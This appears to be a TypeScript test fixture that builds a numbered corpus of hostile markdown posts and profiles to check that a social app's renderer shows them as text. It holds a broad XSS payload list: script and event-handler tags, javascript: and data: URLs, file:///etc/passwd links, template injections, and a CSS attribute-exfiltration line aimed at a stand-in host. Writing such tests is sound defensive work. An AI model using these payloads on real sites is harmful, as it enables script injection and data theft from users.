// Hostile text for the renderer, shared by the e2e hostile-content test and the web stress suite:
// markup, script URLs, CSS, entities, unicode tricks, template syntax and sheer size, each one a
// post a peer on the network could publish. A payload that runs sets `window.xssCanary` to its
// number and opens an alert, so a test sees it by the canary or by the dialog.

/** TEST-NET-2: nothing should ever try to reach it. */
export const FOREIGN = 'http://198.51.100.7'

export interface XssPayload {
  /** `XSS-007`: starts the post, so a test finds the post (and its one-line previews) by it. */
  marker: string
  /** What kind of trick it is, for reports. */
  kind: string
  /** The hostile markdown. */
  text: string
  /** Text the rendered post must show (whitespace runs compared as one space): the markup as text, a link's label. */
  shows: string[]
}

/** What a payload runs if it ever runs: sets the canary and opens a dialog. */
const run = (n: number) => `window.xssCanary=${n};alert(${n})`

type Entry = [kind: string, build: (n: number) => string | { text: string; shows: string[] }]

/** Raw HTML: markdown must show it as text, never as elements. */
const markup: Entry[] = [
  ['script tag', (n) => `<script>${run(n)}</script>`],
  ['script src', () => `<SCRIPT SRC=${FOREIGN}/x.js></SCRIPT>`],
  ['img onerror', (n) => `<img src=x onerror="${run(n)}">`],
  ['img javascript src', (n) => `<img src="javascript:${run(n)}">`],
  ['svg onload', (n) => `<svg onload="${run(n)}"></svg>`],
  ['svg script', (n) => `<svg><script>${run(n)}</script></svg>`],
  ['iframe javascript', (n) => `<iframe src="javascript:${run(n)}"></iframe>`],
  ['iframe srcdoc', (n) => `<iframe srcdoc="<script>parent.${run(n)}</script>"></iframe>`],
  ['iframe foreign', () => `<iframe src="${FOREIGN}/frame"></iframe>`],
  ['body onload', (n) => `<body onload="${run(n)}">`],
  ['style import', () => `<style>@import '${FOREIGN}/x.css';</style>`],
  ['style hides page', () => '<style>body { display: none }</style>'],
  ['style background url', () => `<style>* { background: url(${FOREIGN}/bg.png) }</style>`],
  ['meta refresh', (n) => `<meta http-equiv="refresh" content="0;url=javascript:${run(n)}">`],
  ['meta refresh foreign', () => `<meta http-equiv="refresh" content="0;url=${FOREIGN}/">`],
  ['link stylesheet', () => `<link rel="stylesheet" href="${FOREIGN}/x.css">`],
  ['object data', (n) => `<object data="javascript:${run(n)}"></object>`],
  ['embed', () => `<embed src="${FOREIGN}/x.swf">`],
  ['input autofocus', (n) => `<input autofocus onfocus="${run(n)}">`],
  ['details ontoggle', (n) => `<details open ontoggle="${run(n)}">`],
  ['video source onerror', (n) => `<video><source onerror="${run(n)}"></video>`],
  ['audio onerror', (n) => `<audio src=x onerror="${run(n)}">`],
  ['marquee onstart', (n) => `<marquee onstart="${run(n)}">hi</marquee>`],
  ['base href', () => `<base href="${FOREIGN}/">`],
  ['form action', (n) => `<form action="javascript:${run(n)}"><button>go</button></form>`],
  ['form foreign', () => `<form action="${FOREIGN}"><input name=q><button>send</button></form>`],
  ['mutation xss', (n) => `<math><mtext><table><mglyph><style><img src=x onerror="${run(n)}">`],
  ['noscript breakout', (n) => `<noscript><p title="</noscript><img src=x onerror=${run(n)}>">`],
  ['raw anchor', (n) => `<a href="javascript:${run(n)}">raw link</a>`],
  ['div cover', (n) => `<div onmouseover="${run(n)}" style="position:fixed;inset:0;z-index:9999;background:red">cover</div>`],
  ['template', (n) => `<template><script>${run(n)}</script></template>`],
  ['textarea', (n) => `<textarea><script>${run(n)}</script></textarea>`],
  ['attribute breakout', (n) => `"><script>${run(n)}</script>`],
  ['single quote breakout', (n) => `'><img src=x onerror=${run(n)}>`],
  ['closing the post', (n) => `</div></article><script>${run(n)}</script>`],
  ['html comment', (n) => `<!--<script>${run(n)}</script>-->`],
  ['cdata', (n) => `<![CDATA[<script>${run(n)}</script>]]>`],
  ['xml stylesheet', () => `<?xml-stylesheet href="${FOREIGN}/x.xsl"?>`],
  ['custom element', (n) => `<x-evil onclick="${run(n)}" contenteditable>click</x-evil>`],
  ['uppercase tag', (n) => `<IMG SRC=x ONERROR="${run(n)}">`],
  ['tag with newline', (n) => ({ text: `<img\nsrc=x\nonerror="${run(n)}">`, shows: [`<img src=x onerror="${run(n)}">`] })],
  // markdown-it shows NUL as U+FFFD, as CommonMark asks.
  ['null byte in tag', (n) => ({ text: `<scr\u0000ipt>${run(n)}</scr\u0000ipt>`, shows: [`<scr\uFFFDipt>${run(n)}</scr\uFFFDipt>`] })],
]

/** URLs no link or image may ever point at; each becomes a markdown link and an image. */
const hostileUrls: Array<[kind: string, url: (n: number) => string]> = [
  ['javascript:', (n) => `javascript:${run(n)}`],
  ['javascript: mixed case', (n) => `JaVaScRiPt:${run(n)}`],
  ['javascript: leading space', (n) => `< javascript:${run(n)}>`],
  ['javascript: entity-encoded', (n) => `&#106;avascript:${run(n)}`],
  ['javascript: hex entity colon', (n) => `javascript&#x3A;${run(n)}`],
  ['javascript: tab inside', (n) => `<java\tscript:${run(n)}>`],
  ['javascript: percent-encoded', (n) => `%6A%61vascript:${run(n)}`],
  ['javascript: zero-width', (n) => `java\u200Bscript:${run(n)}`],
  ['data: html', (n) => `<data:text/html,<script>${run(n)}</script>>`],
  ['data: base64', () => 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='],
  ['data: image', () => 'data:image/png;base64,iVBORw0KGgo='],
  ['vbscript:', (n) => `vbscript:msgbox(${n})`],
  ['vbscript: mixed case', (n) => `VbScRiPt:msgbox(${n})`],
  ['file:', () => 'file:///etc/passwd'],
  ['file: uppercase', () => 'FILE://C:/Windows/win.ini'],
  ['protocol-relative', () => '//evil.example/x.png'],
  ['foreign http', () => `${FOREIGN}/pixel.png`],
  ['foreign https', () => 'https://evil.example/tracker.png'],
  ['app scheme', () => 'hearsay-app://renderer/index.html'],
  ['blob: url', () => 'blob:http://127.0.0.1/00000000-0000-0000-0000-000000000000'],
  ['attribute injection', (n) => `#x" onclick="${run(n)}`],
  ['about:', () => 'about:blank'],
]

function urlEntries(): Entry[] {
  const entries: Entry[] = []
  for (const [kind, url] of hostileUrls) {
    entries.push([`link ${kind}`, (n) => ({ text: `[label-${n}](${url(n)})`, shows: [`label-${n}`] })])
    entries.push([`image ${kind}`, (n) => ({ text: `![alt-${n}](${url(n)})`, shows: [`alt-${n}`] })])
  }
  return entries
}

/** Markdown forms that reach a URL by another road. */
const markdownForms: Entry[] = [
  ['autolink javascript', (n) => ({ text: `<javascript:${run(n)}>`, shows: [`javascript:${run(n)}`] })],
  ['autolink vbscript', (n) => ({ text: `<vbscript:msgbox(${n})>`, shows: [`vbscript:msgbox(${n})`] })],
  ['autolink foreign', () => ({ text: `<${FOREIGN}/auto>`, shows: [`${FOREIGN}/auto`] })],
  ['reference link', (n) => ({ text: `[ref-${n}][evil]\n\n[evil]: javascript:${run(n)}`, shows: [`ref-${n}`] })],
  ['reference image', (n) => ({ text: `![refimg-${n}][px]\n\n[px]: ${FOREIGN}/ref.png`, shows: [`refimg-${n}`] })],
  ['link title breakout', (n) => ({ text: `[titled-${n}](${FOREIGN} "x\\" onmouseover=\\"${run(n)}")`, shows: [`titled-${n}`] })],
  ['nested link', (n) => ({ text: `[[inner-${n}](${FOREIGN})](javascript:${run(n)})`, shows: [`inner-${n}`] })],
  ['linkified foreign', () => 'see www.evil.example/track and https://evil.example/x'],
  ['image in link', (n) => ({ text: `[![pic-${n}](${FOREIGN}/a.png)](javascript:${run(n)})`, shows: [`pic-${n}`] })],
  ['code span', (n) => ({ text: `\`<script>${run(n)}</script>\``, shows: [`<script>${run(n)}</script>`] })],
  ['fenced html', (n) => ({ text: `\`\`\`html\n<script>${run(n)}</script>\n\`\`\``, shows: [`<script>${run(n)}</script>`] })],
  ['unclosed fence', (n) => ({ text: `\`\`\`\n<img src=x onerror="${run(n)}">`, shows: [`<img src=x onerror="${run(n)}">`] })],
  ['table aligned', (n) => ({ text: `| a | b |\n|:-:|--:|\n| <script>${run(n)}</script> | <img src=x onerror=alert(${n})> |`, shows: [`<script>${run(n)}</script>`] })],
  ['heading', (n) => ({ text: `# <script>${run(n)}</script>`, shows: [`<script>${run(n)}</script>`] })],
  ['blockquote', (n) => ({ text: `> <img src=x onerror="${run(n)}">`, shows: [`<img src=x onerror="${run(n)}">`] })],
  ['ordered list start', () => ({ text: '99999999999999999999. huge start\n2. next', shows: ['huge start'] })],
]

/** Entities: decoded into text, never into markup. */
const entities: Entry[] = [
  ['named entities', (n) => ({ text: `&lt;script&gt;${run(n)}&lt;/script&gt;`, shows: [`<script>${run(n)}</script>`] })],
  ['decimal entities', (n) => ({ text: `&#60;img src=x onerror=${run(n)}&#62;`, shows: [`<img src=x onerror=${run(n)}>`] })],
  ['double-encoded', () => ({ text: '&amp;lt;b&amp;gt;bold&amp;lt;/b&amp;gt;', shows: ['&lt;b&gt;bold&lt;/b&gt;'] })],
  ['hex entities', (n) => ({ text: `&#x3C;svg onload=${run(n)}&#x3E;`, shows: [`<svg onload=${run(n)}>`] })],
  ['backslash escapes', (n) => ({ text: `\\<script\\>${run(n)}\\</script\\>`, shows: [`<script>${run(n)}</script>`] })],
]

/** Unicode that fools eyes or parsers. */
const unicode: Entry[] = [
  ['rtl override', () => 'invoice\u202Egnp.exe and \u202Bرسالة\u202C'],
  ['zero-width joiners', (n) => `<scr\u200Dipt>${run(n)}</scr\u200Dipt>`],
  ['fullwidth brackets', (n) => `\uFF1Cscript\uFF1E${run(n)}\uFF1C/script\uFF1E`],
  ['homoglyph script', (n) => `<\u0455cript>${run(n)}</\u0455cript>`],
  ['byte order marks', () => '\uFEFF<b>\uFEFFbom</b>\uFEFF'],
  ['line separators', (n) => ({ text: `a\u2028<script>${run(n)}</script>\u2029b`, shows: [`<script>${run(n)}</script>`] })],
  ['combining marks', () => 'Z\u0351\u0352\u0353\u0354a\u0355\u0356\u0357l\u0358\u0359\u035Ag\u035B\u035Co'],
  ['emoji and astral', () => '👩‍💻🏳️‍🌈 𝕏𝕊𝕊 \u{1F4A3}'],
  ['control characters', (n) => ({ text: `\u0007\u001B[31m<script>${run(n)}</script>\u001B[0m`, shows: [`<script>${run(n)}</script>`] })],
]

/** Template syntaxes some renderers evaluate. */
const templates: Entry[] = [
  ['angular expression', (n) => `{{constructor.constructor('${run(n)}')()}}`],
  ['template literal', (n) => `\${${run(n)}}`],
  ['backtick template', (n) => ({ text: `\`\${${run(n)}}\``, shows: [`\${${run(n)}}`] })],
  ['erb', (n) => `<%= ${run(n)} %>`],
  ['handlebars triple', (n) => `{{{${run(n)}}}}`],
  ['ruby interpolation', (n) => `#{${run(n)}}`],
  ['vue directive', (n) => `<div v-html="'<img src=x onerror=${run(n)}>'"></div>`],
  ['jsx-ish', (n) => `{<img src="x" onError={() => {${run(n)}}} />}`],
]

/** CSS escapes and expressions. */
const css: Entry[] = [
  ['css expression', (n) => `<div style="width: expression(${run(n)})">x</div>`],
  ['css escaped tag', () => '<style>\\3c script\\3e alert(1)\\3c /script\\3e</style>'],
  ['css escaped url', () => `<span style="background:\\75rl(${FOREIGN}/a.png)">u</span>`],
  ['css font-face', () => `<style>@font-face { font-family: x; src: url(${FOREIGN}/f.woff) }</style>`],
  ['css attribute exfiltration', () => `<style>input[value^=a] { background: url(${FOREIGN}/a) }</style>`],
]

/** Size and depth. */
const sheer: Entry[] = [
  ['very long', () => ({ text: 'W'.repeat(7000), shows: ['W'.repeat(7000)] })],
  ['deep blockquotes', (n) => ({ text: `${'>'.repeat(300)} deep-${n}`, shows: [`deep-${n}`] })],
  ['deep brackets', (n) => ({ text: `${'['.repeat(400)}bracket-${n}${'](x)'.repeat(400)}`, shows: [`bracket-${n}`] })],
  ['deep lists', (n) => ({ text: Array.from({ length: 60 }, (_, depth) => `${'  '.repeat(depth)}- level ${depth}`).join('\n') + `\n\nlists-${n}`, shows: [`lists-${n}`] })],
  ['many emphasis', (n) => ({ text: `${'*'.repeat(2000)}stars-${n}`, shows: [`stars-${n}`] })],
  ['nested tags', (n) => ({ text: `${'<b>'.repeat(500)}tags-${n}`, shows: [`tags-${n}`] })],
]

/** Mentions, hashtags and sigils carrying payloads. */
const sigils: Entry[] = [
  ['mention to javascript', (n) => ({ text: `[@pwn-${n}](javascript:${run(n)})`, shows: [`@pwn-${n}`] })],
  ['mention with breakout', (n) => ({ text: `[@x-${n}](@notafeed" onclick="${run(n)})`, shows: [`@x-${n}`] })],
  ['hashtag with markup', (n) => `#<script>${run(n)}</script>`],
  ['hashtag with quote', (n) => `#tag" onmouseover="${run(n)}`],
  ['feed sigil with markup', (n) => `@<img src=x onerror=${run(n)}>.ed25519`],
  ['message sigil with markup', (n) => `%<script>${run(n)}</script>.sha256`],
  ['blob sigil with markup', (n) => `&<svg onload=${run(n)}>.sha256`],
  ['blob image with breakout', (n) => ({ text: `![blob-${n}](&${'A'.repeat(43)}=.sha256" onerror="${run(n)})`, shows: [`blob-${n}`] })],
  ['missing blob image', (n) => ({ text: `![gone-${n}](&${'B'.repeat(43)}=.sha256)`, shows: [] })],
  ['blob link with query', (n) => ({ text: `[bloblink-${n}](&${'C'.repeat(43)}=.sha256?x="><script>${run(n)}</script>)`, shows: [`bloblink-${n}`] })],
]

const all: Entry[] = [...markup, ...urlEntries(), ...markdownForms, ...entities, ...unicode, ...templates, ...css, ...sheer, ...sigils]

/** Every hostile post, numbered from 1. */
export const xssCorpus: readonly XssPayload[] = all.map(([kind, build], index) => {
  const n = index + 1
  const built = build(n)
  const { text, shows } = typeof built === 'string' ? { text: built, shows: [built] } : built
  return { marker: `XSS-${String(n).padStart(3, '0')}`, kind, text, shows }
})

/** The post a payload is published as: its marker and a hashtag first, so previews and tag pages find it. */
export function xssPostText(payload: XssPayload): string {
  return `${payload.marker} #xsscorpus\n\n${payload.text}`
}

export interface XssProfile {
  marker: string
  name: string
  description: string
  /** The about message's `image`: never a blob this peer has. */
  image: unknown
}

/** Hostile profiles (about messages): names and descriptions with markup, images pointing away. */
export const xssProfiles: readonly XssProfile[] = [
  { name: `<img src=x onerror="${run(901)}">Mallory`, description: `<script>${run(902)}</script>`, image: `${FOREIGN}/avatar.png` },
  { name: `<script>${run(903)}</script>`, description: `[about-link](javascript:${run(904)})`, image: `javascript:${run(905)}` },
  { name: `javascript:${run(906)}`, description: `![about-img](${FOREIGN}/desc.png)`, image: { link: `${FOREIGN}/a.png`, size: 1 } },
  { name: 'Mallory\u202Eyrol', description: `{{constructor.constructor('${run(907)}')()}}`, image: `&<svg onload=${run(908)}>.sha256` },
  { name: `"><svg onload=${run(909)}>`, description: `<style>body{display:none}</style>`, image: `&${'D'.repeat(43)}=.sha256` },
  { name: `{{${run(910)}}}`, description: `&lt;img src=x onerror=${run(911)}&gt;`, image: `//evil.example/p.png` },
  { name: `${'N'.repeat(300)}`, description: `${'>'.repeat(200)} deep`, image: `file:///etc/passwd` },
  { name: 'Mal\u200Blory\u200D', description: `<iframe src="${FOREIGN}/"></iframe>`, image: null },
].map((profile, index) => ({ marker: `PROFILE-${index + 1}`, ...profile }))
